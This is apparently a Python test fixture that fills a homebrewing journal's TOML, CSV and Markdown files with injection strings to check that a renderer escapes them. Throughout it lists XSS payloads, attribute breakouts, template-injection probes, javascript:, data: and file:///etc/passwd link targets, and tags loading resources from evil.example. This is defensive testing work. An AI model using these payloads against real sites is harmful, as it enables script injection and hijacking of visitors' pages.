"""Texts that try to become code, and a journal that carries them in every field."""

import csv
import io
import json

MARKUP = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "</title><script>alert(1)</script>",
    "</p></section></main><script src=//evil.example>",
    "<script/src=data:,alert(1)>",
    "<<script>alert(1);//<</script>",
    "<script\n>alert(1)</script\n>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)">',
    "<img/src/onerror=alert(1)>",
    "<IMG SRC=javascript:alert(1)>",
    "<img src=`javascript:alert(1)`>",
    '<img """><script>alert(1)</script>">',
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg><set attributeName=href to=javascript:alert(1)>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
    '<svg><use href="data:image/svg+xml,<svg onload=alert(1)>"/></svg>',
    "<math><mtext></math><img src=x onerror=alert(1)>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><mglyph><style><img onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x>",
    "<frameset onload=alert(1)>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<style>@import'//evil.example/x.css';</style>",
    "<style>*{background:url(//evil.example)}</style>",
    "<form action=javascript:alert(1)><input type=submit></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<video poster=javascript:alert(1)></video>",
    "<marquee onstart=alert(1)>",
    "<body onload=alert(1)>",
    "<html onmouseover=alert(1)>",
    "<div style=width:expression(alert(1))>",
    "<div style='background:url(javascript:alert(1))'>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href=&#106;avascript:alert(1)>x</a>",
    "<a href=//evil.example ping=//evil.example>x</a>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext>",
    "<!--<img src='--><img src=x onerror=alert(1)>'>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<!DOCTYPE html><script>alert(1)</script>",
    "<x onclick=alert(1)>x</x>",
    "<x/onpointerrawupdate=alert(1)>",
    "<dialog open onclose=alert(1)>",
    "<portal src=//evil.example>",
    "＜script＞alert(1)＜/script＞",
    "\u202e<script>alert(1)</script>",
)
"""Elements of their own."""

BREAKOUTS = (
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '" autofocus onfocus=alert(1) x="',
    '"><script>alert(1)</script>',
    "'><svg onload=alert(1)>",
    '"/><img src=x onerror=alert(1)>',
    "` onerror=alert(1) `",
    '" style="background:url(//evil.example)"',
    "&quot; onclick=&quot;alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;script&#x3e;alert(1)",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "</svg><script>alert(1)</script>",
    "</desc></svg><img src=x onerror=alert(1)>",
    "</table><img src=x onerror=alert(1)>",
    '\\"><script>alert(1)</script>',
)
"""Out of an attribute, a comment or an element."""

TEMPLATES = (
    "{{191*7}}",
    "{% for x in range(9) %}x{% endfor %}",
    "{{ ''.__class__.__mro__ }}",
    "{# gone #}",
    "${191*7}",
    "<%= 191*7 %>",
    "#{191*7}",
    "{{ shell.title }}",
    "%(title)s {title}",
)
"""In the languages of templates."""

TARGETS = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "javascript&colon;alert(1)",
    "java&#x09;script:alert(1)",
    "java%0ascript:alert(1)",
    "&#106;avascript:alert(1)",
    "%6aavascript:alert(1)",
    "javascript://%0aalert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD4=",
    "data:image/svg+xml,<svg/onload=alert(1)>",
    "blob:https://evil.example/x",
    "file:///etc/passwd",
    "view-source:javascript:alert(1)",
    "feed:javascript:alert(1)",
    "ms-msdt:x",
    "about:blank",
    "//evil.example/x",
    "/\\evil.example",
    "\\\\evil.example\\x",
    "jar:javascript:alert(1)!/",
    "mhtml:http://evil.example",
    "livescript:x",
)
"""As the target of a link or a picture."""

TRICKS = (
    "[a](<javascript:alert(1)>)",
    "[a]( javascript:alert(1) )",
    '[a](x "onmouseover=alert(1)")',
    '[a](x\' "\\" onmouseover=\\"alert(1)")',
    "[a][ref]\n\n[ref]: javascript:alert(1)",
    "[![a](javascript:alert(1))](javascript:alert(1))",
    "<javascript:alert(1)>",
    "[a](javascript:alert(1)//\n)",
    "![a](photos/x'onerror=alert(1).jpg)",
    '![a" onerror="alert(1)](photos/mash.jpg "t\' \\" onload=\\"alert(1)")',
    "![<script>alert(1)</script>](photos/%3Cb%20onclick=alert(1)%3E.jpg)",
    "[^x]\n\n[^x]: <script>alert(1)</script> [a](javascript:alert(1))",
    '[^"onmouseover="alert(1)]\n\n[^"onmouseover="alert(1)]: note',
    "inline ^[note <img src=x onerror=alert(1)>] foot",
    "```<img src=x onerror=alert(1)>\n</code></pre><script>alert(1)</script>\n```",
    '``` " onmouseover="alert(1)\ncode\n```',
    "`</code><script>alert(1)</script>`",
    "# <script>alert(1)</script>",
    "| <script>a</script> | b |\n| :-- | --: |\n| <img src=x onerror=alert(1)> | [a](javascript:alert(1)) |",
    "- <script>alert(1)</script>\n  - [a](data:text/html,x)",
    "> <iframe src=x>",
    "\\<script>alert(1)</script>",
    '<https://evil.example/"onmouseover=alert(1)>',
    "[a](https://evil.example/'onmouseover='alert(1))",
    "* * *\n<div\nonclick=alert(1)>\n",
    "<!-- x --><b onclick=alert(1)>b</b>",
)
"""Markdown that tries to make active HTML."""

PHOTOS = ("mash.jpg", "x'onerror=alert(1).jpg", "<b onclick=alert(1)>.jpg", '" onload="alert(1).jpg', "{{ 7 * 191 }}.jpg")
"""Names of pictures of the first batch; the last two stand in its gallery."""

FIELDS = (*MARKUP, *BREAKOUTS, *TEMPLATES)


def notes() -> str:
    """A story that holds everything, in paragraphs, links, pictures, tables, footnotes and lessons."""
    parts = ["# The story", *FIELDS, *TRICKS]
    parts += [f"[link {number}]({target}) ![picture {number}](https://evil.example/{number}) <{target}>" for number, target in enumerate(TARGETS)]
    parts += [
        "## Tasting",
        *FIELDS[:20],
        "## Lessons",
        "\n".join(f"- {text.splitlines()[0]} [a](javascript:alert(1))" for text in FIELDS if text.splitlines()),
    ]
    return "\n\n".join(parts) + "\n"


def _quoted(text: str) -> str:
    return json.dumps(text, ensure_ascii=False)


def _plan(recipe: str, texts: list[str]) -> str:
    title, summary, tag, good, hop, yeast, task = (_quoted(text) for text in texts)
    return (
        f"[batch]\nrecipe = {_quoted(recipe)}\nbrewed = 2026-01-02\nbrewhouse = 'house'\ntitle = {title}\nsummary = {summary}\ntags = [{tag}]\n"
        f"[target]\nvolume = '20 L'\noriginal_gravity = '1.050'\nfinal_gravity = '1.010'\n"
        f"[[grist]]\nname = {good}\nmass = '5 kg'\nextract = '80 %'\n[liquor]\nmash = '25 L'\n[boil]\nduration = '60 min'\n"
        f"[[hops]]\nname = {hop}\nmass = '30 g'\nalpha = '5 %'\ntime = '60 min'\n[yeast]\nname = {yeast}\nattenuation = '75 %'\n"
        f"[[task]]\nwhen = 'boil - 10 min'\ntext = {task}\n"
    )


def _readings(note: str) -> str:
    table = io.StringIO()
    writer = csv.writer(table)
    writer.writerow(["time", "stage", "what", "value", "unit", "note"])
    for row in (
        ("2026-01-02 09:00", "mash", "note", "", ""),
        ("2026-01-02 11:00", "pre-boil", "volume", "25", "L"),
        ("2026-01-02 11:00", "pre-boil", "gravity", "1.040", ""),
        ("2026-01-02 13:00", "post-boil", "volume", "21", "L"),
        ("2026-01-02 13:00", "post-boil", "gravity", "1.050", ""),
        ("2026-01-02 14:00", "fermenter", "volume", "20", "L"),
        ("2026-01-02 14:00", "fermenter", "gravity", "1.050", ""),
        ("2026-01-12 14:00", "fermenter", "gravity", "1.011", ""),
        ("2026-02-12 14:00", "tasting", "note", "", ""),
    ):
        writer.writerow([*row, note])
    return table.getvalue()


def journal() -> dict[str, str]:
    """A journal as files; each text stands in some field of some batch, and all of them in the notes of the first."""
    files = {
        "journal.toml": f"title = {_quoted(BREAKOUTS[3])}\nbrewer = {_quoted(BREAKOUTS[0])}\ndescription = {_quoted(MARKUP[2])}\nbase_url = 'https://journal.example'\n",
        "brewhouses/house.toml": f"name = {_quoted(BREAKOUTS[4])}\n",
        "bräu_麦-1/notes.md": notes(),
    }
    width = 9
    groups = [FIELDS[start : start + width] for start in range(0, len(FIELDS), width)]
    for number, group in enumerate(groups):
        texts = [" ".join(text.split("\n")) for text in (*group, *FIELDS)[:width]]
        folder = "bräu_麦-1" if number == 0 else f"batch-{number}"
        files[f"{folder}/plan.toml"] = _plan(texts[0], texts[1:8])
        files[f"{folder}/readings.csv"] = _readings(texts[8])
    return files
